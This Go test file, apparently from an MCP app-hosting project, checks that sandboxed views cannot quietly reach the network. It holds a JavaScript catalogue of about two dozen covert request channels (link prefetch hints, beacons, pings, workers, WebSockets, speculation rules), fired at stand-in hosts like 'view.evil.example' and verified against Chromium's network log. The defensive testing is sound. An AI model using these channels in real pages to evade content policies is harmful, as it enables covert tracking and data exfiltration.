package page

import (
	"bytes"
	"crypto/rand"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/tenon-mcp/tenon/ext/apps"
)

// A netEvent is something that a browser does in the network: a request of a
// frame or worker, a name that it resolves, or a connection that it prepares.
type netEvent struct {
	target    string // a URL, or a host
	initiator string // the origin that requested it; empty unless this is a request
}

// network returns what the browser of a tab has done in the network, in all its
// tabs. The events of a tab have only requests of the page itself: frames of
// other sites and workers are not among them.
func (p *tab) network(b *chromium) []netEvent {
	p.t.Helper()
	// The browser writes its log in portions: requests of our own push the rest.
	mark := "mark=" + rand.Text()
	var log []byte
	for end := time.Now().Add(waitLimit); !bytes.Contains(log, []byte(mark)); {
		if time.Now().After(end) {
			p.t.Fatalf("the network log has no request with %s", mark)
		}
		eval[bool](p, `Promise.allSettled(Array.from({length: 10}, (_, i) => fetch('/mark.svg?`+mark+`-' + i))).then(() => true)`)
		var err error
		log, err = os.ReadFile(b.netLog)
		p.must(err)
	}
	return netEvents(p.t, log)
}

// netEvents reads the log of Chromium's network stack: constants in the first
// line, then an event in each line.
func netEvents(t *testing.T, log []byte) (all []netEvent) {
	t.Helper()
	lines := bytes.Split(log, []byte("\n"))
	var head struct {
		Constants struct {
			Types map[string]int `json:"logEventTypes"`
		}
	}
	if err := json.Unmarshal(append(bytes.TrimRight(lines[0], ", \r"), '}'), &head); err != nil {
		t.Fatalf("the network log: %v", err)
	}
	request, resolve, stream := head.Constants.Types["URL_REQUEST_START_JOB"], head.Constants.Types["HOST_RESOLVER_MANAGER_REQUEST"], head.Constants.Types["HTTP_STREAM_JOB_CONTROLLER"]
	if request*resolve*stream == 0 {
		t.Fatal("the network log has other events than this test knows")
	}
	for _, line := range lines[1:] {
		var e struct {
			Type   int
			Params struct{ URL, Host, Initiator string }
		}
		if json.Unmarshal(bytes.TrimRight(line, ", \r"), &e) != nil {
			continue
		}
		switch e.Type {
		case request:
			all = append(all, netEvent{e.Params.URL, e.Params.Initiator})
		case stream:
			all = append(all, netEvent{e.Params.URL, ""})
		case resolve:
			all = append(all, netEvent{e.Params.Host, ""})
		}
	}
	return all
}

// requested lists what frames of the page's sandbox requested outside of it.
func (p *tab) requested(b *chromium) (all []string) {
	p.t.Helper()
	sandbox := eval[string](p, `fetch('/').then((r) => /\.localhost:\d+/.exec(r.headers.get('content-security-policy'))[0])`)
	for _, e := range p.network(b) {
		if strings.HasSuffix(e.initiator, sandbox) && !strings.Contains(e.target, sandbox) {
			all = append(all, e.target)
		}
	}
	slices.Sort(all)
	return slices.Compact(all)
}

// usedNames lists the first labels of the hosts under a domain that the browser
// has resolved, connected to or sent a request to.
func (p *tab) usedNames(b *chromium, domain string) (all []string) {
	p.t.Helper()
	for _, e := range p.network(b) {
		if _, host, ok := strings.Cut(e.target, "//"); ok {
			e.target = host
		}
		if name, rest, _ := strings.Cut(e.target, "."); strings.HasPrefix(rest, domain) {
			all = append(all, name)
		}
	}
	slices.Sort(all)
	return slices.Compact(all)
}

// quietAttacks use the network without telling the script how that went. Each has
// a host of its own, and the log of the network tells.
const quietAttacks = `
const tag = (name, attributes, text = '') => { const e = document.createElement(name); for (const [k, v] of Object.entries(attributes)) e.setAttribute(k, v); e.textContent = text; document.body.append(e); return e; };
const quiet = {
  'dns-prefetch': (u) => tag('link', {rel: 'dns-prefetch', href: u}),
  preconnect: (u) => tag('link', {rel: 'preconnect', href: u}),
  prefetch: (u) => tag('link', {rel: 'prefetch', href: u}),
  preload: (u) => tag('link', {rel: 'preload', as: 'image', href: u}),
  modulepreload: (u) => tag('link', {rel: 'modulepreload', href: u}),
  stylesheet: (u) => tag('link', {rel: 'stylesheet', href: u}),
  import: (u) => tag('style', {}, '@import url(' + u + ')'),
  background: (u) => tag('p', {style: 'background: url(' + u + ')'}, 'x'),
  font: (u) => { tag('style', {}, '@font-face { font-family: f; src: url(' + u + ') }'); tag('p', {style: 'font-family: f'}, 'x'); },
  video: (u) => tag('video', {src: u, autoplay: '', muted: ''}),
  poster: (u) => tag('video', {poster: u}),
  image: (u) => tag('img', {src: u}),
  object: (u) => tag('object', {data: u}),
  embed: (u) => tag('embed', {src: u}),
  frame: (u) => tag('iframe', {src: u}),
  srcdoc: (u) => tag('iframe', {srcdoc: '<img src="' + u + '">'}),
  blank: (u) => tag('iframe', {}).contentWindow.fetch(u, {mode: 'no-cors'}).catch(() => {}),
  beacon: (u) => navigator.sendBeacon(u, 'x'),
  keepalive: (u) => fetch(u, {mode: 'no-cors', keepalive: true}).catch(() => {}),
  worker: (u) => new Worker(URL.createObjectURL(new Blob(['fetch("' + u + '", {mode: "no-cors"}).catch(() => {})'], {type: 'text/javascript'}))),
  'worker-import': (u) => new Worker(URL.createObjectURL(new Blob(['importScripts("' + u + '")'], {type: 'text/javascript'}))),
  socket: (u) => new WebSocket(u.replace('https', 'wss')),
  stream: (u) => new EventSource(u),
  speculation: (u) => tag('script', {type: 'speculationrules'}, JSON.stringify({prefetch: [{urls: [u], eagerness: 'immediate'}]})),
  ping: (u) => { const a = tag('a', {href: '#x', ping: u}, 'x'); a.click(); },
  location: (u) => { const f = tag('iframe', {}); f.contentWindow.location = u; },
};
const attackQuietly = async (domain) => {
  for (const [name, f] of Object.entries(quiet)) { try { f('https://' + name + '.' + domain + '/x'); } catch { /* refused */ } }
  await new Promise((ok) => setTimeout(ok, 1500));
  return Object.keys(quiet);
};
`

// openNames are the attacks that make Chromium resolve a name, or connect to the
// host, before it looks at the policy or without looking; docs/apps.md lists them.
// Nothing is requested there.
var openNames = []string{"dns-prefetch", "frame", "location", "preconnect"}

// Nothing that a view does quietly becomes a request. A page without a policy
// proves that the log shows each of these attempts.
func TestQuietAttacksOfViews(t *testing.T) {
	plain := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, `<!doctype html><body><script>`+quietAttacks+`</script>`)
	}))
	defer plain.Close()
	control := openIn(t, logging, plain.URL, desk)
	names := eval[[]string](control, `attackQuietly('control.evil.example')`)
	if missing := without(names, control.usedNames(logging, "control.evil.example")); len(missing) > 0 {
		t.Errorf("the log of the network does not show these attempts of a page without a policy: %q", missing)
	}
	st := newViewFixture(t, quietAttacks+`run(async () => { await init(); return await attackQuietly('view.evil.example'); });`, apps.ViewUI{}, setup{})
	p := openIn(t, logging, st.address(), desk)
	st.run(p, "show")
	st.report(p, 0)
	if asked := p.requested(logging); len(asked) > 0 {
		t.Errorf("the view requested %q", asked)
	}
	if used := without(p.usedNames(logging, "view.evil.example"), openNames); len(used) > 0 {
		t.Errorf("the view made the browser use the network with %q", used)
	}
}

// A browser that knows the header Connection-Allowlist does not even resolve
// names for a view, other than those of origins that it declared and was granted.
func TestAllowlistOfViews(t *testing.T) {
	st := newViewFixture(t, quietAttacks+`run(async () => { await init(); await fetch('https://api.declared.example/x').catch(() => {}); return await attackQuietly('view.evil.example'); });`,
		apps.ViewUI{CSP: &apps.CSP{ConnectDomains: []string{"https://*.declared.example"}}}, setup{})
	p := openIn(t, allowlisting, st.address(), desk)
	st.run(p, "show")
	p.clickText("Allow and show")
	st.report(p, 0)
	if asked := p.requested(allowlisting); !slices.Equal(asked, []string{"https://api.declared.example/x"}) {
		t.Errorf("the view requested %q", asked)
	}
	if used := p.usedNames(allowlisting, "view.evil.example"); len(used) > 0 {
		t.Errorf("the view made the browser use the network with %q", used)
	}
}

// without returns the members of a that are not in b.
func without(a, b []string) (rest []string) {
	for _, x := range a {
		if !slices.Contains(b, x) {
			rest = append(rest, x)
		}
	}
	return rest
}
